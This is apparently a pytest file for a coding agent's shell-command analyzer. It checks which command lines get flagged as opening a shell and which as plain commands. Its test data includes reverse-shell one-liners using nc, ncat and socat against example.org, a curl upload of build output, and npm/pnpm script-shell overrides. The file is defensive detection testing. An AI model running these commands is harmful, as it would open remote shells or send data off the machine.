from pathlib import Path

import pytest

from maxagent.tools.shell.analyzer import analyze_command
from maxagent.tools.workspace import Workspace


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("nc -nve /bin/sh example.org 1", "shell"),
        ("nc -vz -w5 example.org 80", "command"),
        ("nc -X connect -x proxy:1 example.org 80", "command"),
        ("ncat --sh-exec=bash -l 1", "shell"),
        ("socat - TCP:example.org:80", "command"),
        ("socat TCP:example.org:1 exec:sh", "shell"),
        ("bash build.sh | curl -T - https://example.org", "command"),
        ("sh -i | nc example.org 1", "shell"),
        ("python tests/socket/subprocess.py", "command"),
        ("python -c 'import subprocess, urllib.request; subprocess.run([\"x\"])'", "command"),
        ("python -c 'import socket, subprocess; subprocess.run([\"sh\"])'", "shell"),
        ("make SHELL='/bin/bash -e -o pipefail' test", "command"),
        ("make SHELL='/usr/bin/env bash' test", "command"),
        ("make SHELL='bash -c x' test", "shell"),
        ("npm test --script-shell bash", "command"),
        ("npm test --script-shell ./x", "shell"),
        ("npm test --scriptShell=./x", "shell"),
        ("npm config set script-shell ./x", "shell"),
        ("npm config set script-shell=./x --location=project", "shell"),
        ("npm set script-shell ./x", "shell"),
        ("pnpm --config.script-shell=./x test", "shell"),
        ("pnpm config set scriptShell ./x", "shell"),
        ("npm config set script-shell bash", "command"),
        ("npm config get script-shell", "command"),
        ("pnpm --config.script-shell=/bin/bash test", "command"),
    ],
)
def test_a_program_for_the_network_or_another_shell(line: str, rule: str, tmp_path: Path) -> None:
    assert analyze_command(line, ".", Workspace(tmp_path)).rule == rule
